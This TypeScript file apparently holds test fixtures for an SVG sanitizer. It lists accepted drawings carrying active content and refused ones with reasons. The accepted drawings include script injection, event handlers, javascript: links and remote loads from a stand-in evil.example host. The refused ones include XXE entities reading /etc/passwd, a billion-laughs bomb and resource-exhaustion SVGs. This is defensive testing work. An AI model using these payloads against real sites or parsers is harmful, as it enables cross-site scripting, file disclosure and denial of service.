const evil = 'https://evil.example'
const run = `window.__ran=1;fetch('${evil}/')`

function svg(content: string, { before = '', attributes = '' } = {}): string {
  return before + bare(`<rect width="60" height="10" fill="#3538cd"/>${content}`, attributes)
}

function bare(content: string, attributes = ''): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="60" height="10" ${attributes}>${content}</svg>`
}

/** Drawings that are accepted because they show something, with content that would run or load in a browser. */
export const activeDrawings: Readonly<Record<string, string>> = {
  'a script': svg(
    `<script>${run}</script><script href="${evil}/a.js"/><script xlink:href="data:text/javascript,${run}"/>`,
  ),
  'a script in a prefix': svg(`<s:script xmlns:s="http://www.w3.org/2000/svg">${run}</s:script>`),
  handlers: svg(`<g onclick="${run}" onmouseover="${run}"><animate onbegin="${run}" attributeName="x" dur="1s"/></g>`, {
    attributes: `onload="${run}"`,
  }),
  'a page within': svg(
    `<foreignObject width="60" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>${run}&lt;/script>"/><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${run}"/></body></foreignObject>`,
  ),
  links: svg(
    `<a href="javascript:${run}" target="_top"><rect width="60" height="10"/></a><a xlink:href="${evil}"><text>a</text></a>`,
  ),
  'pictures from elsewhere': svg(
    `<image href="${evil}/a.png" width="9" height="9"/><use href="${evil}/a.svg#a"/><feImage href="${evil}/b.png"/><image xlink:href="file:///etc/passwd" width="9" height="9"/>`,
  ),
  'styles from elsewhere': svg(
    `<style>@import url(${evil}/a.css);@font-face{font-family:a;src:url(${evil}/a.woff)}rect{fill:url(${evil}/a.svg#a);background:url("${evil}/c.png")}</style><rect style="fill:url('${evil}/b.svg#b')" filter="url(${evil}/c.svg#c)" mask="url(${evil}/d.svg#d)" width="60" height="10"/>`,
    { before: `<?xml-stylesheet href="${evil}/a.css"?>` },
  ),
  'a value that changes into a script': svg(
    `<a id="a"><text y="8">a</text></a><set xlink:href="#a" attributeName="href" to="javascript:${run}"/><animate xlink:href="#a" attributeName="xlink:href" values="javascript:${run}" dur="1s"/>`,
  ),
  'data in an address': svg(
    `<use href="data:image/svg+xml,&lt;svg onload='${run}'/>"/><image href="data:image/svg+xml;base64,${btoa(svg(`<script>${run}</script>`))}"/>`,
  ),
  'letters that look like a script': svg(`<text onclick="${run}">&lt;script&gt;${run}&lt;/script&gt;</text>`),
}

const laughs = Array.from({ length: 9 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`).join('')

/** Drawings that are refused, with the reason. */
export const refusedDrawings: Readonly<Record<string, readonly [text: string, reason: string]>> = {
  'a billion laughs': [
    svg('<text>&l9;</text>', { before: `<!DOCTYPE svg [<!ENTITY l0 "ha">${laughs}]>` }),
    'has_entities',
  ],
  'a file as an entity': [
    svg('<text>&a;</text>', { before: '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>' }),
    'has_entities',
  ],
  'an address as an entity': [svg('&a;', { before: `<!DOCTYPE svg [<!ENTITY a SYSTEM "${evil}/">]>` }), 'has_entities'],
  'a bomb of uses': [
    svg(
      `${Array.from(
        { length: 9 },
        (_, level) => `<g id="u${level + 1}">${`<use href="#u${level}"/>`.repeat(10)}</g>`,
      ).join('')}<g id="u0"/><use href="#u9"/>`,
    ),
    'too_dear',
  ],
  'blurs far wider than the drawing': [
    svg(
      `<filter id="f" x="-10" y="-10" width="21" height="21">${'<feGaussianBlur stdDeviation="5000"/>'.repeat(60)}</filter><rect width="60" height="10" filter="url(#f)"/>`,
    ),
    'too_dear',
  ],
  'two megabytes of groups in each other': [svg('<g>'.repeat(280_000) + '</g>'.repeat(280_000)), 'too_dear'],
  'two megabytes of groups beside each other': [svg('<g/>'.repeat(480_000)), 'too_dear'],
  'a bitmap and nothing else': [
    bare('<image width="60" height="10" href="data:image/png;base64,AAAA"/>'),
    'nothing_seen',
  ],
  'a bitmap as the pattern of a shape': [
    bare(
      '<defs><pattern id="p" width="1" height="1"><use href="#i"/></pattern><image id="i" href="data:image/png;base64,AAAA"/></defs><rect width="60" height="10" fill="url(#p)"/>',
    ),
    'nothing_seen',
  ],
  'an undeclared entity': [svg('<text>&nbsp;</text>'), 'broken'],
  'no size': ['<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9"/></svg>', 'no_size'],
}
